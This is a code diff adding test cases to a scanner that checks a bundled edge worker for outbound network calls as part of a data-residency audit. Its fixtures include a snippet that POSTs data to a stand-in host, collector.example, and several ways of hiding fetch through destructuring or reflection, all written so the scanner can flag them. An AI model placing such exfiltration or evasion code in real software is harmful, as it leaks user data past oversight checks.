@@ -1,4 +1,6 @@
+import { build } from "esbuild";
 import { describe, expect, test } from "vitest";
+import { root } from "../../../scripts/config.ts";
 import { codeFindings, readCode } from "../../../scripts/residency/code.ts";
 import { readGraph } from "../../../scripts/residency/read.ts";
 import { listedBindings, rehearsalFindings } from "../../../scripts/residency/rehearsal.ts";
@@ -18,6 +20,14 @@ describe("what the proof reads in a bundle (M-024)", () => {
     ["a global called by its full name", `globalThis.fetch("https://example.com");`, "globalThis.fetch"],
     ["a global by a text", `self["fetch"](url);`, "self.fetch"],
     ["a global kept for later", "const send = fetch;", "fetch"],
+    ["a global taken apart", "const { fetch: send } = globalThis;", "{ fetch } of globalThis"],
+    ["a global taken apart by a text", `const { ["fetch"]: send } = self;`, "{ fetch } of self"],
+    ["a global taken apart as a whole", "const { crypto, ...rest } = globalThis;", "{ ... } of globalThis"],
+    [
+      "a global asked for by reflection",
+      `Reflect.get(globalThis, "fetch")(url);`,
+      "Reflect.get of globalThis",
+    ],
     ["a socket", `import { connect } from "cloudflare:sockets";`, "sockets"],
     ["a web socket", "new WebSocket(url);", "WebSocket"],
     ["code from elsewhere", `await import("https://example.com/x.js");`, "import()"],
@@ -53,6 +63,38 @@ describe("what the proof reads in a bundle (M-024)", () => {
     expect(rules(`const names = ["leanvibe-{region}-0", "my-api-us-east", "leanvibe-directory"];`)).toEqual(
       [],
     );
+  });
+});
+
+describe("a whole script as it is bundled", () => {
+  /** The edge's own script, and beside it what somebody added in a module of the product. */
+  async function bundled(added: string): Promise<string> {
+    const leak = `import worker from "./workers/edge/index.ts"; export default worker; export const leak = ${added};`;
+    const { outputFiles } = await build({
+      stdin: { contents: leak, sourcefile: "shared/audit/leak.ts", resolveDir: root, loader: "ts" },
+      ...{ bundle: true, write: false, format: "esm", target: "es2024", logLevel: "silent" },
+      external: ["cloudflare:*", "node:*"],
+      define: { __BUILD_ID__: '"test"' },
+    });
+    return outputFiles?.[0]?.text ?? "";
+  }
+
+  test("without an addition finds nothing; a bare fetch beside the port fails it, and is named", async () => {
+    expect(rules(await bundled("1"))).toEqual([]);
+    for (const [added, how] of [
+      [
+        `(body: string) => fetch("https://collector.example/in", { method: "POST", body })`,
+        "fetch to collector.example",
+      ],
+      ["(url: string) => globalThis.fetch(url)", "globalThis.fetch"],
+      ["() => { const { fetch: send } = globalThis; return send; }", "{ fetch } of globalThis"],
+    ] as const) {
+      expect(rules(await bundled(added))).toEqual([
+        expect.stringMatching(
+          new RegExp(`^shared/audit/leak\\.ts line \\d+: ${how.replaceAll(/[{}.]/g, "\\$&")}`),
+        ),
+      ]);
+    }
   });
 });
 
